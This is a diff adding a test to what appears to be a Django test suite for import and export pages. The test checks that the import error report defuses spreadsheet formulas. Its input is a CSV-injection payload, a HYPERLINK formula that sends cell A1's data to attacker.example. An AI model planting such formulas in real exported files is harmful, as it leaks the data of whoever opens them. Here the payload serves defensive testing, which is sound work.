@@ -1,5 +1,6 @@
 """The import and export pages: who may use them, the whole flow, and bad files."""
 
+import csv
 import io
 
 import openpyxl
@@ -380,3 +381,17 @@ def test_staff_import_a_csv_with_an_error_row_fix_it_and_apply_it(page, staff_us
     page.get_by_role("button", name="Apply import").click()
     expect(page.locator("#import-result")).to_contain_text("3 organisations created")
     assert sorted(Organisation.objects.values_list("name", flat=True)) == ["Alpha", "Beta", "Généthon"]
+
+
+def test_the_error_report_never_holds_a_formula(staff_client, job, django_capture_on_commit_callbacks):
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+    content = f'Nom,Type\nOrg,"{formula.replace(chr(34), chr(34) * 2)}"\n'
+    with django_capture_on_commit_callbacks(execute=True):
+        staff_client.post(
+            reverse("directory:import_replace_file", args=[job.pk]), {"file": csv_upload(content)}
+        )
+    response = staff_client.get(reverse("directory:import_errors", args=[job.pk]))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + formula in cells
+    assert not any(cell.startswith("=") for cell in cells)
